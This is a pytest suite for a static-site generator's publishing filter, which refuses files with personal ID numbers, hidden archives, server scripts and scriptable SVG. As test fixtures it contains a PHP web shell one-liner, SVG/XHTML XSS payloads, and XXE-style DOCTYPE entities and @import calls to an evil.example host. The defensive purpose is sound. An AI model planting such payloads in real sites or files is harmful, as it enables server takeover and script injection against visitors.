"""The publishing boundary: only pictures and PDFs leave content/, opened and scanned as a reader sees them."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from terang.content import assets
from terang.privacy import media
from terang.privacy import rules as privasi
from terang.cli.main import main
from terang.privacy.output import output_text
from terang.privacy.media import Refused
from terang.privacy.svg import clean

from helpers import NIK, PARTICIPANT_HEADER, one_page, picture, tree, written, xlsx

SPACED = "3604 0545 1290 0001"
PHONE = "081243343251"
NIK_FOUND = "nomor yang mirip NIK (3604…, 16 digit) ditemukan di {where}; hapus nomor itu; data pribadi tidak boleh terbit (UU 27/2022)"
PHONE_FOUND = ("nomor telepon (0812…) yang tidak terdaftar di kontak_resmi situs.yml ditemukan di {where}; hapus nomor itu, "
               "atau tambahkan ke kontak_resmi di situs.yml jika nomor itu kontak resmi")
SVG_FIX = "; simpan ulang tanpa skrip (misalnya ekspor sebagai SVG biasa atau PNG)"
SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'


def pdf(text: str = "Laporan realisasi iuran", metadata: dict[str, str] | None = None, attachment: bool = False,
        password: str = "", script: bool = False, note: str = "") -> bytes:
    """A one-page PDF whose text is in a FlateDecode content stream, as word processors write it."""
    writer, page = one_page(text)
    if note:
        annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
                                       NameObject("/Contents"): TextStringObject(note)})
        page[NameObject("/Annots")] = writer._add_object(ArrayObject([writer._add_object(annotation)]))
    if metadata:
        writer.add_metadata(metadata)
    if attachment:
        writer.add_attachment("peserta.csv", PARTICIPANT_HEADER.encode())
    if script:
        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x');")})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if password:
        writer.encrypt(password)
    return written(writer)


def exif(tags: dict[int, object]) -> Image.Exif:
    found = Image.Exif()
    found.update(tags)
    return found


def png_with_text(key: str, value: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text(key, value)
    info.add_itxt("Deskripsi", "Foto kegiatan", zip=True)
    return picture("PNG", pnginfo=info)


def zipped(name: str, text: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(name, text)
    return out.getvalue()


def refused(project, capsys, files: dict[str, str | bytes] | None = None, make=None) -> list[str]:
    """Build once, add `files` (or run `make`), build again: it must fail and leave site/ as it was. The error lines."""
    assert project.build(capsys=capsys)[0] == 0
    before = tree(project.path / "site")
    if files:
        project.write(files)
    if make:
        make(project.path)
    code, _, err = project.build(capsys=capsys)
    assert code == 1
    assert tree(project.path / "site") == before
    assert NIK not in err and SPACED not in err and PHONE not in err
    return err.splitlines()[:-1]


# --- what got through before: links, containers, hidden folders --------------------------------------------------

def test_a_symlink_into_data_mentah_is_refused(project, capsys) -> None:
    participants = xlsx([PARTICIPANT_HEADER.strip().split(";"), [NIK, "Siti Aminah", "Jl. Mawar 1", PHONE, "1990-12-05", "Nelayan", "36.04.05", "2025-01-10"]])

    def link(root: Path) -> None:
        (root / "data/mentah").mkdir(parents=True)
        (root / "data/mentah/peserta.xlsx").write_bytes(participants)
        (root / "content/berkas").mkdir()
        (root / "content/berkas/daftar.xlsx").symlink_to("../../data/mentah/peserta.xlsx")

    assert refused(project, capsys, make=link) == [
        "content/berkas/daftar.xlsx: tautan simbolik tidak boleh ada di content/ karena bisa menerbitkan berkas dari tempat lain "
        "(misalnya data/mentah/); salin berkasnya ke dalam content/"]


def test_a_symlink_that_stays_inside_content_is_refused_too(project, capsys) -> None:
    def link(root: Path) -> None:
        (root / "content/gambar").mkdir()
        (root / "content/gambar/a.png").write_bytes(picture())
        (root / "content/gambar/b.png").symlink_to("a.png")
        (root / "content/salinan").symlink_to("gambar")

    assert [line.split(":")[0] for line in refused(project, capsys, make=link)] == ["content/gambar/b.png", "content/salinan"]


DOC = "dokumen {suffix} tidak diterbitkan apa adanya karena isinya (termasuk riwayat suntingan) tidak dapat diperiksa; ubah menjadi PDF lalu simpan PDF-nya di content/"
TABLE = ("tabel {suffix} tidak diterbitkan dari content/; taruh tabel di data/ dengan berkas .yml-nya (lihat docs/panduan-data.md) "
         "agar diperiksa dan diterbitkan sebagai tabel")
ARCHIVE = "arsip {suffix} tidak diterbitkan karena isinya tidak dapat diperiksa; terbitkan berkas di dalamnya satu per satu sebagai PDF atau gambar"
DISGUISED = "berkas ini sebenarnya arsip ZIP (misalnya dokumen Office) yang isinya tidak dapat diperiksa; ubah menjadi PDF lalu terbitkan PDF-nya"


@pytest.mark.parametrize("name, data, message", [
    ("content/berkas/daftar.xlsx", xlsx([["nik", "nama"], [NIK, "Siti Aminah"]]), TABLE.format(suffix=".xlsx")),
    ("content/berkas/daftar.csv", b"desa,jumlah\nSatu,10\n", TABLE.format(suffix=".csv")),
    ("content/berkas/surat.docx", zipped("word/document.xml", f"<w:t>NIK {NIK}</w:t>"), DOC.format(suffix=".docx")),
    ("content/berkas/surat.odt", zipped("content.xml", f"NIK {NIK}"), DOC.format(suffix=".odt")),
    ("content/berkas/arsip.zip", zipped("peserta.txt", f"NIK {NIK}"), ARCHIVE.format(suffix=".zip")),
    ("content/berkas/buku.epub", zipped("isi.xhtml", f"NIK {NIK}"), ARCHIVE.format(suffix=".epub")),
    ("content/berkas/catatan.txt", b"catatan rapat", "berkas .txt tidak diterbitkan; tulis isinya sebagai halaman Markdown di content/halaman/ atau ubah menjadi PDF"),
    ("content/berkas/laporan.pdf", zipped("word/document.xml", f"NIK {NIK}"), DISGUISED),  # a .docx renamed
    ("content/berkas/laporan2.pdf", pdf() + zipped("peserta.txt", f"NIK {NIK}"), DISGUISED),  # a PDF with an archive appended
    ("content/gambar/foto.png", zipped("peserta.txt", f"NIK {NIK}"), DISGUISED),
    ("content/gambar/foto.jpg", picture("PNG"), "berkas ini bukan gambar JPEG walau namanya .jpg; simpan ulang sebagai .jpg atau ganti akhiran namanya"),
    ("content/gambar/foto.webp", b"RIFF\0\0\0\0WEBPuji", "gambar WebP ini rusak atau tidak dapat dibaca; buka lalu simpan ulang di program gambar"),
    ("content/gambar/foto.gif", b"\xd0\xcf\x11\xe0" + b"\0" * 60,
     "berkas ini sebenarnya arsip Office lama (OLE) (misalnya dokumen Office) yang isinya tidak dapat diperiksa; ubah menjadi PDF lalu terbitkan PDF-nya"),
    ("content/gambar/video.mp4", b"\0\0\0\x18ftypmp42",
     "berkas .mp4 tidak termasuk yang boleh diterbitkan (gambar .png, .jpg, .webp, .gif, .svg atau dokumen .pdf); ubah menjadi salah satunya atau hapus dari content/"),
])
def test_containers_and_other_types_are_refused_by_name_and_by_content(project, capsys, name: str, data: bytes, message: str) -> None:
    assert refused(project, capsys, {name: data}) == [f"{name}: {message}"]


@pytest.mark.parametrize("name, where, data", [
    ("content/berkas/laporan.pdf", "halaman 1", pdf(f"Peserta NIK {SPACED} terdaftar")),  # text in a compressed stream
    ("content/berkas/laporan.pdf", "metadata dokumen", pdf(metadata={"/Author": f"Operator NIK {NIK}"})),
    ("content/berkas/laporan.pdf", "catatan halaman 1", pdf(note=f"cek NIK {NIK}")),
    ("content/gambar/foto.png", "metadata gambar", png_with_text("Comment", f"NIK {NIK}")),  # a PNG tEXt chunk
    ("content/gambar/foto.jpg", "metadata gambar", picture("JPEG", exif=exif({0x010E: f"KTP {NIK}"}))),
    ("content/gambar/foto2.jpg", "metadata gambar", picture("JPEG", comment=f"NIK {NIK}".encode())),
    ("content/gambar/foto.webp", "metadata gambar", picture("WEBP", exif=exif({0x9C9C: f"NIK {NIK}".encode("utf-16-le")}).tobytes())),
    ("content/gambar/foto.gif", "metadata gambar", picture("GIF", comment=f"NIK {NIK}")),
    ("content/berkas/3604054512900001.pdf", "nama berkas atau folder", pdf()),
    ("content/3604054512900001/laporan.pdf", "nama berkas atau folder", pdf()),
])
def test_a_nik_inside_a_published_file_or_its_name_is_found(project, capsys, name: str, where: str, data: bytes) -> None:
    message = NIK_FOUND.format(where=where) + ("; ganti nama berkasnya" if where.startswith("nama") else "")
    assert refused(project, capsys, {name: data}) == [f"{name.replace(NIK, NIK[:4] + '…')}: {message}"]


def test_a_nik_in_an_svg_is_found_by_the_source_scan_with_its_line(project, capsys) -> None:
    assert refused(project, capsys, {"content/gambar/grafik.svg": f"<svg {SVG_NS}>\n<title>NIK {NIK}</title></svg>"}) == [
        "content/gambar/grafik.svg:2: nomor yang mirip NIK (3604…, 16 digit) ditemukan; hapus nomor itu; data pribadi tidak boleh terbit (UU 27/2022)"]


def test_an_unlisted_phone_in_a_pdf_page_is_found(project, capsys) -> None:
    assert refused(project, capsys, {"content/berkas/laporan.pdf": pdf(f"Hubungi {PHONE}")}) == [
        f"content/berkas/laporan.pdf: {PHONE_FOUND.format(where='halaman 1')}"]


def test_a_participant_name_in_picture_metadata_is_found(project, capsys) -> None:
    rows = PARTICIPANT_HEADER + f"{NIK};Siti Aminah;Jl. Mawar 1;{PHONE};1990-12-05;Nelayan;36.04.05;2025-01-10\n"
    assert refused(project, capsys, {"data/mentah/peserta.csv": rows, "content/gambar/foto.png": png_with_text("Author", "Ibu Siti Aminah")}) == [
        "content/gambar/foto.png: nama peserta (S… A…) ditemukan di metadata gambar (nama ini ada di data/mentah/peserta.csv baris 2); "
        "hapus nama itu; situs hanya menerbitkan angka gabungan"]


@pytest.mark.parametrize("data, message", [
    (b"%PDF-1.4 rusak\n", "PDF ini rusak atau tidak dapat dibaca sehingga isinya tidak dapat diperiksa; buka lalu simpan ulang sebagai PDF "
                         "(misalnya Cetak > Simpan sebagai PDF)"),
    (b"<html>bukan pdf</html>", "berkas ini bukan PDF; simpan ulang dokumennya sebagai PDF"),
    (pdf(password="rahasia"), "PDF ini dikunci dengan kata sandi sehingga isinya tidak dapat diperiksa; simpan ulang tanpa kata sandi"),
    (pdf(attachment=True), "PDF ini memuat lampiran (berkas di dalam PDF) yang tidak dapat diperiksa; simpan ulang PDF tanpa lampiran"),
    (pdf(script=True), "PDF ini memuat JavaScript; simpan ulang tanpa skrip (misalnya Cetak > Simpan sebagai PDF)"),
])
def test_a_pdf_that_cannot_be_seen_through_is_refused(project, capsys, data: bytes, message: str) -> None:
    assert refused(project, capsys, {"content/berkas/laporan.pdf": data}) == [f"content/berkas/laporan.pdf: {message}"]


def test_a_git_folder_and_dot_files_in_content_are_refused(project, capsys) -> None:
    files = {"content/.git/HEAD": "ref: refs/heads/main\n", "content/.git/objects/ab/cdef": f"NIK {NIK}",
             "content/gambar/.rahasia.png": picture(), "content/halaman/.draf.md": "---\njudul: Draf\n---\nIsi.\n"}
    assert refused(project, capsys, files) == [
        "content/.git: folder tersembunyi (namanya diawali titik, misalnya .git) tidak boleh ada di content/ karena seluruh isinya, "
        "termasuk naskah yang sudah dihapus, bisa ikut terbit; pindahkan folder ini ke luar content/",
        "content/gambar/.rahasia.png: berkas tersembunyi (namanya diawali titik) tidak boleh ada di content/; hapus berkas ini atau ganti namanya",
        "content/halaman/.draf.md: berkas tersembunyi (namanya diawali titik) tidak boleh ada di content/; hapus berkas ini atau ganti namanya",
    ]


def test_what_editors_tools_leave_behind_is_skipped_without_a_word(project, capsys) -> None:
    junk = [".DS_Store", "gambar/._foto.png", "gambar/Thumbs.db", "halaman/.tentang.md.swp", "halaman/tentang.md~", ".~lock.surat.docx#", ".gitkeep"]
    project.write({f"content/{name}": b"x" for name in junk})
    code, _, err = project.build(capsys=capsys)
    assert (code, err) == (0, "")
    assert not [name for name in junk if (project.path / "site" / name).exists()]


# --- active content and host configuration ---------------------------------------------------------------------------

SERVER = "berkas {suffix} adalah program atau pengaturan untuk server dan tidak boleh diterbitkan; situs Terang hanya berisi halaman dan berkas statis"


@pytest.mark.parametrize("suffix", [".php", ".phtml", ".phar", ".php5", ".cgi", ".pl", ".asp", ".aspx", ".jsp", ".exe", ".sh", ".py"])
def test_server_side_scripts_are_refused(project, capsys, suffix: str) -> None:
    assert refused(project, capsys, {f"content/berkas/a{suffix}": "<?php system($_GET['c']); ?>"}) == [
        f"content/berkas/a{suffix}: {SERVER.format(suffix=suffix)}"]


@pytest.mark.parametrize("name, part, kind", [
    ("_redirects", "_redirects", "host"), ("web.config", "web.config", "host"), ("vercel.json", "vercel.json", "host"),
    ("_routes.json", "_routes.json", "host"), ("netlify.toml", "netlify.toml", "host"), ("berkas/Web.Config", "Web.Config", "host"),
    ("CNAME", "CNAME", "host"), ("_headers", "_headers", "own"), ("SHA256SUMS", "SHA256SUMS", "own"),
    ("_headers/a.png", "_headers", "own"), ("pagefind/a.png", "pagefind", "build"), ("aset/logo.png", "aset", "build"),
    ("robots.txt", "robots.txt", "build"), ("sitemap.xml", "sitemap.xml", "build"), ("berkas/404.html", "404.html", "host"),
])
def test_names_the_build_or_the_host_reserve_are_refused(project, capsys, name: str, part: str, kind: str) -> None:
    what = "berkas" if name.endswith(part) else "folder"
    message = {"host": f"nama {what} '{part}' dibaca server web sebagai pengaturan situs (pengalihan, header, program); ganti nama {what} ini",
               "own": f"nama {what} '{part}' dipakai oleh Terang untuk keamanan situs; ganti nama {what} ini",
               "build": f"nama {what} '{part}' dipakai oleh Terang untuk berkas situs itu sendiri; ganti nama {what} ini"}[kind]
    data = picture() if name.endswith(".png") else b"/*\n  Content-Security-Policy: script-src *\n"
    assert refused(project, capsys, {f"content/{name}": data}) == [f"content/{name}: {message}"]


def test_a_page_cannot_take_the_search_index_folder(project, capsys) -> None:
    assert refused(project, capsys, {"content/halaman/pagefind.md": "---\njudul: Cari\n---\nIsi.\n"}) == [
        "content/halaman/pagefind.md: nama folder 'pagefind' dipakai oleh Terang untuk berkas situs itu sendiri; ganti nama folder ini"]


def test_an_xml_file_with_an_xhtml_script_is_refused(project, capsys) -> None:
    page = '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(document.domain)</script></html>'
    assert refused(project, capsys, {"content/berkas/data.xml": page}) == [
        "content/berkas/data.xml: berkas .xml tidak boleh diterbitkan dari content/ karena peramban dapat menjalankan skrip di dalamnya; "
        "terbitkan isinya sebagai PDF, halaman Markdown atau tabel di data/"]


SCRIPT = "gambar SVG ini memuat <script>" + SVG_FIX
ENTITY = "gambar SVG ini memuat deklarasi DOCTYPE (entitas atau DTD) yang dapat menyembunyikan skrip" + SVG_FIX


@pytest.mark.parametrize("data, message", [
    ('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>', SCRIPT),
    (f'<svg {SVG_NS} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>', "gambar SVG ini memuat elemen HTML <script>" + SVG_FIX),
    (f'<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;alert(1)&#60;/script&#62;">]><svg {SVG_NS}>&s;</svg>', ENTITY),
    (f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {SVG_NS}/>', ENTITY),
    (f'<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><svg {SVG_NS}/>', ENTITY),
    (f'<svg {SVG_NS}><script>alert(1)</script></svg>'.encode("utf-16"), SCRIPT),
    (f'<?xml version="1.0" encoding="UTF-16BE"?><svg {SVG_NS}><script>alert(1)</script></svg>'.encode("utf-16-be"), SCRIPT),
    (f'<svg {SVG_NS}><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>', "gambar SVG ini memuat <foreignObject> (isi HTML)" + SVG_FIX),
    (f'<svg {SVG_NS} onload="alert(1)"/>', "gambar SVG ini <svg> memakai atribut peristiwa 'onload' (JavaScript sebaris)" + SVG_FIX),
    (f'<svg {SVG_NS}><g xmlns:s="http://www.w3.org/2000/svg" s:onclick="alert(1)"/></svg>', "gambar SVG ini <g> memakai atribut peristiwa 'onclick' (JavaScript sebaris)" + SVG_FIX),
    (f'<svg {SVG_NS}><a href=" jav&#x09;ascript:alert(1)"><text>x</text></a></svg>', "gambar SVG ini <a href> memakai alamat 'jav\\u0009ascript:alert(1)'" + SVG_FIX),
    (f'<svg {SVG_NS}><use href="https://evil.example/a.svg#x"/></svg>', "gambar SVG ini <use> merujuk ke 'https://evil.example/a.svg#x' di luar gambar ini" + SVG_FIX),
    (f'<svg {SVG_NS}><a><set attributeName="xlink:href" to="javascript:alert(1)"/></a></svg>', "gambar SVG ini <set> mengubah atribut 'xlink:href' dengan animasi" + SVG_FIX),
    (f'<svg {SVG_NS}><style>@import url(https://evil.example/a.css);</style></svg>', "gambar SVG ini <style> memuat gaya '@import' yang dapat memuat skrip atau berkas lain" + SVG_FIX),
    (f'<svg {SVG_NS}><rect style="fill:url(https://evil.example/p.svg#a)"/></svg>', "gambar SVG ini <rect> memuat url(https://evil.example/p.svg#a) dari luar gambar ini" + SVG_FIX),
    (f'<svg {SVG_NS}><image href="data:image/png;base64,AA"/></svg>', "gambar SVG ini <image href> memakai alamat 'data:image/png;base64,AA'" + SVG_FIX),
    (f'<svg {SVG_NS}><font/></svg>', "gambar SVG ini memakai elemen <font> yang tidak diizinkan" + SVG_FIX),
    (f"<svg {SVG_NS}><g>" * 300 + "</g>" * 300 + "</svg>", "gambar SVG ini bersarang lebih dari 200 tingkat; sederhanakan gambarnya atau ekspor sebagai PNG"),
    ("<svg", "berkas SVG ini bukan XML yang sah; buka dan simpan ulang di program gambar, atau ekspor sebagai PNG"),
    ('<html xmlns="http://www.w3.org/1999/xhtml"/>', "berkas ini bukan gambar SVG (elemen terluarnya bukan <svg>); ekspor ulang sebagai SVG atau PNG"),
])
def test_svg_with_script_or_foreign_content_is_refused(project, capsys, data: str | bytes, message: str) -> None:
    data = data.encode() if isinstance(data, str) else data
    if data.count(b"<svg") > 1:
        data = b"<svg " + SVG_NS.encode() + b">" + b"<g>" * 300 + b"</g>" * 300 + b"</svg>"
    assert refused(project, capsys, {"content/gambar/grafik.svg": data}) == [f"content/gambar/grafik.svg: {message}"]


# --- what is published, and how ------------------------------------------------------------------------------------

def published(project, capsys, files: dict[str, bytes]) -> dict[str, bytes]:
    project.write(files)
    code, _, err = project.build(capsys=capsys)
    assert (code, err) == (0, "")
    return {name: (project.path / "site" / name.removeprefix("content/")).read_bytes() for name in files}


def test_clean_pictures_and_pdfs_are_published_without_metadata(project, capsys) -> None:
    tags = exif({0x010F: "KameraSaya", 0x0131: "Editor 1.0"})
    files = {"content/gambar/a.png": png_with_text("Software", "GIMP 2.10"), "content/gambar/b.jpg": picture("JPEG", exif=tags, quality=90),
             "content/gambar/c.webp": picture("WEBP", exif=tags.tobytes()), "content/gambar/d.gif": picture("GIF", comment=b"dibuat di kantor"),
             "content/berkas/e.pdf": pdf(metadata={"/Title": "Laporan"}),
             "content/gambar/f.svg": (f'<svg {SVG_NS} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3" '
                                      'viewBox="0 0 10 10"><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">Penulis</rdf:RDF>'
                                      '</metadata><title>Grafik</title><rect width="10" height="10" fill="url(#g)"/></svg>').encode("utf-16")}
    out = published(project, capsys, files)
    for name in ("content/gambar/a.png", "content/gambar/b.jpg", "content/gambar/c.webp", "content/gambar/d.gif"):
        image = Image.open(io.BytesIO(out[name]))
        assert image.size == (40, 30) and not dict(image.getexif()) and not getattr(image, "text", {})
        assert set(image.info) <= {"transparency", "duration", "loop", "background", "version", "jfif", "jfif_version", "jfif_unit",
                                   "jfif_density", "dpi"}, name
        assert b"GIMP" not in out[name] and b"KameraSaya" not in out[name] and b"kantor" not in out[name]
    assert out["content/berkas/e.pdf"] == files["content/berkas/e.pdf"]  # PDFs as they are
    assert out["content/gambar/f.svg"] == (f'<svg {SVG_NS} viewBox="0 0 10 10"><title>Grafik</title>'
                                           '<rect width="10" height="10" fill="url(#g)"></rect></svg>').encode()


def test_a_photo_keeps_its_orientation_and_quality(project, capsys) -> None:
    photo = picture("JPEG", size=(40, 30), exif=exif({0x0112: 6}), quality=75)  # "rotate 90° to show"
    out = published(project, capsys, {"content/gambar/foto.jpg": photo})["content/gambar/foto.jpg"]
    image = Image.open(io.BytesIO(out))
    assert image.size == (30, 40) and 0x0112 not in image.getexif()
    assert image.quantization == Image.open(io.BytesIO(photo)).quantization  # the original's quality tables, no second loss


def test_rebuilt_files_are_the_same_bytes_every_time(project, capsys, tmp_path) -> None:
    files = {"content/gambar/a.png": png_with_text("Software", "GIMP"), "content/gambar/b.jpg": picture("JPEG"),
             "content/gambar/c.webp": picture("WEBP"), "content/gambar/d.gif": picture("GIF")}
    first = published(project, capsys, files)
    other = tmp_path / "lain"
    assert main(["--proyek", str(project.path), "--out", str(other), "-q"]) == 0
    assert {name: (other / name.removeprefix("content/")).read_bytes() for name in files} == first
    for name, data in files.items():
        assert media.inspect(Path(name).suffix, data).data == first[name]


def test_an_unchanged_picture_is_not_opened_again(project, capsys, monkeypatch) -> None:
    published(project, capsys, {"content/gambar/a.png": png_with_text("Software", "GIMP")})
    inode = os.stat(project.path / "site/gambar/a.png").st_ino
    opened = []
    monkeypatch.setattr(assets, "inspect", lambda *args: opened.append(args) or media.inspect(*args))
    project.write({"content/halaman/baru.md": "---\njudul: Baru\n---\nIsi.\n"})
    assert project.build(capsys=capsys)[0] == 0
    assert opened == [] and os.stat(project.path / "site/gambar/a.png").st_ino == inode


def test_the_output_firewall_reads_a_pdf_as_its_text(tmp_path) -> None:
    path = tmp_path / "laporan.pdf"
    path.write_bytes(pdf(f"NIK {NIK}", metadata={"/Subject": f"Telp {PHONE}"}))
    assert NIK.encode() not in path.read_bytes()  # compressed: a scan of the bytes sees nothing
    text = output_text(path)
    assert f"NIK {NIK}" in text and f"Telp {PHONE}" in text


def test_a_nik_as_an_output_file_name_is_found(project, capsys) -> None:
    lines = refused(project, capsys, {f"content/halaman/{NIK}.md": "---\njudul: Baru\n---\nIsi.\n"})
    assert f"site/3604…/index.html: {NIK_FOUND.format(where='nama berkas atau folder')}; ganti nama berkasnya" in lines


def test_the_svg_rebuild_keeps_drawings_and_drops_editor_data() -> None:
    source = (f'<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
              f'<svg {SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
              'width="10" height="10" data-name="x"><!-- komentar --><sodipodi:namedview id="nv"/><defs><linearGradient id="g">'
              '<stop offset="0" stop-color="#036"/></linearGradient></defs><g><use xlink:href="#g"/><text x="1" y="2">A &amp; B &lt; C</text>'
              '<a href="https://example.org/">tautan</a></g></svg>')
    assert clean(source.encode()) == (f'<svg {SVG_NS} width="10" height="10"><defs><linearGradient id="g"><stop offset="0" stop-color="#036"></stop>'
                                      '</linearGradient></defs><g><use href="#g"></use><text x="1" y="2">A &amp; B &lt; C</text>'
                                      '<a href="https://example.org/">tautan</a></g></svg>').encode()


def test_file_names_of_the_whole_site_are_scanned() -> None:
    official = frozenset()
    assert [str(p) for p in privasi.name_problems(["site/berkas/a.pdf", f"site/{SPACED}/index.html", "site/pagefind/fragment/id_16b222e.pf_fragment"], official)] == [
        "site/3604…/index.html: " + NIK_FOUND.format(where="nama berkas atau folder") + "; ganti nama berkasnya"]


def test_refusals_never_depend_on_a_library_message() -> None:
    for data in (b"%PDF-1.7\n1 0 obj<<>>\nstartxref\n9\n%%EOF", b"%PDF-" + os.urandom(200)):
        with pytest.raises(Refused) as caught:
            media.inspect(".pdf", data)
        assert caught.value.message.startswith("PDF ini rusak")
